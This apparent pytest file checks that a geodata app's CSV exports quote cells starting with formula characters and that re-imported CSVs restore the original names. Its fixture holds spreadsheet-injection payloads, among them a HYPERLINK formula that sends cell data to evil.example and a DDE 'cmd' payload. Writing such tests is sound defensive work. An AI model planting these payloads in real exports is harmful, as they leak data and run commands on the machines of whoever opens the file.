"""No cell of a CSV download is a formula a spreadsheet would run (review 21, F8); a CSV
download uploaded again reads back the texts as they were."""

from __future__ import annotations

import csv
import io

import orjson

from bordermap.ingest import make_layer, plan_import

TOKEN = {"Authorization": "Bearer test-editor-token"}
NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "Bavet"]


def test_formula_texts_go_out_quoted_and_come_back_as_written(client):
    features = [{"type": "Feature", "properties": {"name": name, "population": -5},
                 "geometry": {"type": "Point", "coordinates": [105 + i / 100, 11.0]}} for i, name in enumerate(NAMES)]
    body = orjson.dumps({"type": "FeatureCollection", "features": features})
    assert client.post("/api/features?layer=f&new_layer_title==cmd", data=body, headers=TOKEN).status_code == 201
    for url in ("/api/layers/f.csv", "/api/commitments.csv", "/api/documents.csv"):
        cells = [cell for row in csv.reader(io.StringIO(client.get(url).get_data(as_text=True))) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], url
        assert not [cell for cell in cells if cell[:1] == "-" and not cell.lstrip("-").replace(".", "").isdigit()], url
    layer_csv = client.get("/api/layers/f.csv").data
    rows = list(csv.DictReader(io.StringIO(layer_csv.decode())))
    assert [row["name"] for row in rows] == ["'" + name for name in NAMES[:4]] + ["Bavet"]
    assert {row["population"] for row in rows} == {"-5"}  # a number stays a number
    again = plan_import(layer_csv, new_layer=make_layer("", title="Again"), filename="f.csv")
    assert [f["properties"]["name"] for f in again.features] == NAMES
